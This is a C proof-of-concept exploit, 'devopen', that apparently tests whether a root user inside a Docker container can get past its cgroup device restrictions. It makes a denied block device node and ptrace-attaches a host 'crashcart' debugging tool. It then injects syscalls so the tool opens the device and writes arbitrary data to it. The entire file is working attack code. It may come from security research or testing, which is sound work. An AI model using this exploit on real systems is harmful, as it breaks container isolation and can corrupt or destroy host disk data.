#define _GNU_SOURCE
/* devopen: a hostile container's root against the device controller of its
 * own cgroup. It makes a block device node (CAP_MKNOD: Docker's default
 * set) of a device its cgroup denies, owned by the tool's ids (CAP_CHOWN),
 * tries to open it itself, then becomes the tool's ids with Docker's default
 * capability set (plus CAP_SYS_PTRACE with -p: `--cap-add SYS_PTRACE`),
 * PTRACE_ATTACHes the crashcart tool and makes the tool open the node and
 * write MSG to it. The tool's open is checked against the tool's cgroup,
 * not the container's. x86_64 only. Prints what each call returned.
 * usage: devopen [-p] UID GID TOOLPID NODE MAJOR MINOR MSG */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/capability.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#include "tracee.h"

#define CAP(c) (1ULL << (c))
/* Docker's default set (moby's oci/caps/defaults.go) */
static const unsigned long long docker_caps =
	CAP(CAP_CHOWN) | CAP(CAP_DAC_OVERRIDE) | CAP(CAP_FSETID) | CAP(CAP_FOWNER) | CAP(CAP_MKNOD) |
	CAP(CAP_NET_RAW) | CAP(CAP_SETGID) | CAP(CAP_SETUID) | CAP(CAP_SETFCAP) | CAP(CAP_SETPCAP) |
	CAP(CAP_NET_BIND_SERVICE) | CAP(CAP_SYS_CHROOT) | CAP(CAP_KILL) | CAP(CAP_AUDIT_WRITE);

static int setcaps(unsigned long long c)
{
	struct __user_cap_header_struct h = { .version = _LINUX_CAPABILITY_VERSION_3 };
	struct __user_cap_data_struct d[2] = {
		{ .effective = (unsigned)c, .permitted = (unsigned)c },
		{ .effective = (unsigned)(c >> 32), .permitted = (unsigned)(c >> 32) },
	};
	return (int)syscall(SYS_capset, &h, d);
}

int main(int argc, char **argv)
{
	int keep_ptrace = argc > 1 && strcmp(argv[1], "-p") == 0;
	if (argc - keep_ptrace != 8) {
		fprintf(stderr, "usage: devopen [-p] UID GID TOOLPID NODE MAJOR MINOR MSG\n");
		return 2;
	}
	argv += keep_ptrace;
	uid_t uid = (uid_t)atoi(argv[1]);
	gid_t gid = (gid_t)atoi(argv[2]);
	pid_t pid = atoi(argv[3]);
	const char *node = argv[4], *msg = argv[7];

	(void)unlink(node);
	if (mknod(node, S_IFBLK | 0600, makedev(atoi(argv[5]), atoi(argv[6]))) < 0 || chown(node, uid, gid) < 0) {
		printf("devopen: mknod %s: %s\n", node, strerror(errno));
		return 2;
	}
	int fd = open(node, O_RDWR);
	printf("devopen: container opens %s: %s\n", node, fd >= 0 ? "ok" : strerror(errno));
	if (fd >= 0)
		close(fd);
	if (prctl(PR_SET_KEEPCAPS, 1, 0, 0, 0) < 0 || setgroups(0, NULL) < 0 || setresgid(gid, gid, gid) < 0 ||
	    setresuid(uid, uid, uid) < 0 || setcaps(docker_caps | (keep_ptrace ? CAP(CAP_SYS_PTRACE) : 0)) < 0) {
		printf("devopen: becoming the tool's ids: %s\n", strerror(errno));
		return 2;
	}
	int r = tracee_attach(pid, "devopen");
	if (r)
		return r;
	unsigned long buf = tracee_scratch();
	tracee_poke(buf, node, strlen(node) + 1);
	tracee_poke(buf + 512, msg, strlen(msg) + 1);
	long tfd = tracee_call(SYS_openat, AT_FDCWD, (long)buf, O_RDWR, 0);
	printf("devopen: tool opens %s: %s\n", node, res(tfd));
	if (tfd >= 0) {
		printf("devopen: tool writes: %s\n", res(tracee_call(SYS_write, tfd, (long)(buf + 512), (long)strlen(msg), 0)));
		(void)tracee_call(SYS_close, tfd, 0, 0, 0);
	}
	tracee_detach();
	return 0;
}
